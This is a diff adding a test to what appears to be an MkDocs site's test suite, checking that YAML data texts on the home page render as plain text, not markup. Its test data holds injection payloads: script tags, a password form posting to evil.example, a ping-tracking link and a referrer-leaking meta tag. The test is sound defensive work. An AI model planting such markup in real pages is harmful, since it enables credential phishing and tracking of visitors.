@@ -181,3 +181,31 @@ def test_a_pipe_in_a_content_folder_stops_the_build_naming_it(project_copy):
     assert content_problem(project_copy) is None
     os.mkfifo(project_copy / "data/notes.yml")
     assert content_problem(project_copy).startswith("data/notes.yml: not a regular file")
+
+
+# Data texts are Markdown: in a code span, markup passes the data check as text. The
+# home page (overrides/home.html) must print it as text too, never as markup.
+HOME_PAYLOADS = {
+    "debate summary": ("      en: >-\n        Online radicalisation", '      en: >-\n        `<script src="assets/javascripts/x.js"></script><form action="https://evil.example/"><input type="password" name="p"></form>` Online radicalisation'),
+    "co-chair name": ("      en: Regional Cooperation Council\n", '      en: "Regional Cooperation Council `<a class=md-button href=http://evil.example/ ping=https://evil.example/p>Log in</a>`"\n'),
+    "partner name": ("      en: France\n", '      en: "France `<img src=x.png srcset=https://evil.example/i.png alt=x><meta name=referrer content=unsafe-url>`"\n'),
+    "city": ("    en: Paris\n", '    en: "Paris `<script src=assets/javascripts/x.js></script>`"\n'),
+}
+
+
+def test_data_texts_on_the_home_page_are_text_never_markup(project_copy, tmp_path):
+    only_language(project_copy, "en")
+    for old, new in HOME_PAYLOADS.values():
+        path = project_copy / "data" / ("programme.yml" if "radicalisation" in old or "Paris" in old else "partners.yml")
+        text = path.read_text(encoding="utf-8")
+        assert text.count(old) >= 1, old
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    (project_copy / "docs/assets/javascripts/x.js").write_text("document.title = 'x';\n", encoding="utf-8")
+    result = build(project_copy / "mkdocs.yml", tmp_path / "out")
+    assert result.returncode == 0, result.stderr[-2000:]
+    home = BeautifulSoup((tmp_path / "out/index.html").read_text(encoding="utf-8"), "lxml")
+    main = home.select_one(".home")
+    assert not main.select("script, form, input, meta, img[srcset], a[ping], a[href^='http:']"), main.select("script, form, input, meta, img, a[ping]")
+    shown = main.get_text()
+    for fragment in ('<script src="assets/javascripts/x.js"></script>', '<input type="password" name="p">', "ping=https://evil.example/p>Log in</a>", "<meta name=referrer content=unsafe-url>", "Paris `<script src=assets/javascripts/x.js></script>`"):
+        assert fragment in shown, fragment
